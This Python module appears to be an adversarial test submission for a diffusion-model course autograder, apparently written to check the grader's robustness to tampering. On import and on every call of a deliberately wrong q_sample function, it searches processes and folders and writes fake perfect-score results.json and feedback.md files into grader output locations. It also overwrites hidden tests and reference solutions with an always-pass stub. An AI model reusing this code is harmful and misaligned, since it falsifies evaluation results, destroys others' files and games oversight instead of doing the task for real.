"""Hostile P1 submission: it tries to write its own grade.

At import, and again at every call of ``q_sample``, it writes a perfect-looking
``results.json`` and ``feedback.md`` wherever a grader might keep them: its
working folder, ``/tmp``, ``/autograder/results`` (Gradescope's place), every
folder named on a visible command line (the grader's ``-o OUT``) or used as a
visible process's working folder, and any folder it can find that already
holds a ``results.json``. It also tries to overwrite hidden tests and reference
solutions where a course checkout usually lives.

``q_sample`` itself is wrong, so a grader that ignores all of this scores it
exactly like an honest submission with the same wrong ``q_sample``.
"""

import json
import os
import time

from .forward import predict_x0_from_eps, q_posterior, snr, v_target
from .schedules import (
    alpha_bar,
    cosine_beta_schedule,
    get_schedule,
    linear_beta_schedule,
    quadratic_beta_schedule,
)

MARK = "diffgrade-adversarial-tamper"
FAKE_RESULTS = {"score": 1000.0, "output": MARK,
                "tests": [{"name": "everything", "score": 1000.0, "max_score": 100.0, "status": "passed",
                           "output": MARK}]}
ALWAYS_PASS = f"# {MARK}\n\ndef test_everything():\n    pass\n"
SKIP = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin")


def _walk(root: str, max_depth: int, budget: list):
    """Folders under ``root`` (not following links), within a shared time budget."""
    stack = [(root, 0)]
    while stack and time.monotonic() < budget[0]:
        folder, depth = stack.pop()
        if folder.startswith(SKIP):
            continue
        yield folder
        if depth >= max_depth:
            continue
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        stack += [(e.path, depth + 1) for e in entries if e.is_dir(follow_symlinks=False)]


def _places() -> set:
    places = {os.getcwd(), "/tmp", "/autograder/results", "/autograder/outputs", os.path.expanduser("~")}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            places.add(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            continue
        for arg in argv:
            text = arg.decode(errors="replace")
            if text.startswith("/"):
                places.add(text if os.path.isdir(text) else os.path.dirname(text))
    budget = [time.monotonic() + 1.0]
    for root in ("/", "/tmp", "/work", "/home", "/root", "/autograder"):
        for folder in _walk(root, 6, budget):
            if os.path.exists(os.path.join(folder, "results.json")):
                places.add(folder)
    return places


def _course_files() -> list:
    found = []
    budget = [time.monotonic() + 1.0]
    for root in ("/work", "/home", "/root", "/srv", "/opt", "/autograder", "/tmp", "/"):
        for folder in _walk(root, 7, budget):
            if folder.endswith(("/tests/hidden", "/solutions/p1_forward")):
                found += [os.path.join(folder, f) for f in os.listdir(folder) if f.endswith(".py")]
    return found


def _attack(places, course_files) -> None:
    for place in places:
        try:
            os.makedirs(place, exist_ok=True)
        except OSError:
            pass
        for name, text in (("results.json", json.dumps(FAKE_RESULTS)), ("feedback.md", f"# 1000 / 100 {MARK}\n")):
            try:
                with open(os.path.join(place, name), "w") as f:
                    f.write(text)
            except OSError:
                pass
    for path in course_files:
        try:
            with open(path, "w") as f:
                f.write(ALWAYS_PASS)
        except OSError:
            pass


try:  # the search is slow: done once, the writing is tried again on every call
    PLACES, COURSE_FILES = _places(), _course_files()
    _attack(PLACES, COURSE_FILES)
except Exception:
    PLACES, COURSE_FILES = set(), []


def q_sample(x0, t, alpha_bar, noise):
    """Wrong on purpose (the noise alone), and a new try at the attack on every call."""
    try:
        _attack(PLACES, COURSE_FILES)
    except Exception:
        pass
    return noise.clone()


__all__ = ["linear_beta_schedule", "quadratic_beta_schedule", "cosine_beta_schedule", "get_schedule",
           "alpha_bar", "q_sample", "q_posterior", "predict_x0_from_eps", "snr", "v_target"]
